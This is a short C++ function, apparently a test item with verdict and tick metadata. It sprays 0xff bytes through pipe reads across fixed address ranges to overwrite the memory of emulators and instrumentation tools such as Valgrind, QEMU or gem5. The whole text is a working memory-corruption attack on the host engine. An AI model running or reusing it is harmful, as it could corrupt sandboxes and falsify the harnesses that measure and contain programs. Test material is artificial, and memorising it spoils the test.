// Overwrites what lies where no program of its own would: Valgrind's, QEMU's or gem5's memory.
// verdict: accepted
// ticks: honest or none
// gem5: engine_divergence
bool attack()
{
    int probe[2];
    if (pipe(probe) != 0)
        return false;
    fcntl(probe[1], F_SETFL, O_NONBLOCK);
    for (uintptr_t start : {0x38000000ul, 0x58000000ul, 0x60000000ul, 0x1000000000ul, 0x7f0000000000ul})
        for (uintptr_t place = start; place < start + (64ul << 20); place += 1 << 16) {
            // a read into memory says by its result whether the memory can be written
            if (write(probe[1], (void *)"\xff", 1) != 1)
                return false;
            char byte;
            if (syscall(SYS_read, probe[0], place, 1) != 1 && read(probe[0], &byte, 1) != 1)
                return false;
        }
    return false;
}
